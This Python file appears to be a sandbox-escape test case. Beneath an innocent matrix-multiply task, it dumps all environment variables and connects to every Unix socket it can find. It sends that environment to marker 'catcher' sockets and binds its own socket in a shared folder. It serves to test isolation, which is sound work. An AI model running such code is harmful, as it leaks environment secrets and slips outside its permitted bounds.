"""Connects to every Unix socket that it can find, by path and by abstract name, and leaves a socket in a shared folder.

covers = ["sockets (TCP, UDP, Unix path sockets, abstract, vsock)"]
task = "matmul"
verdict = "ACCEPTED"
"""

import glob
import os
import socket

SECRET = repr(dict(os.environ)).encode()
names = glob.glob("/tmp/attack-mark-*") + glob.glob("/run/**/*.sock", recursive=True) + glob.glob("/var/run/*.sock*")
try:
    names += ["\0" + line.split("@")[1].strip() for line in open("/proc/net/unix") if "@" in line]
except OSError:
    pass
names += [f"\0attack-mark-catcher-{pid}" for pid in range(1, 2000)]
for name in names:
    try:
        with socket.socket(socket.AF_UNIX) as one:
            one.settimeout(0.05)
            one.connect(name)
            if "attack-mark" in name:
                one.send(SECRET)
            else:
                print("attack-won: connected to", name)
    except OSError:
        pass
for name in ("/tmp/attack-mark-socket", "\0attack-mark-socket"):
    try:
        server = socket.socket(socket.AF_UNIX)
        server.bind(name)
        print("attack-won: bound a socket")
    except OSError:
        pass


def matmul(a, b):
    return a @ b
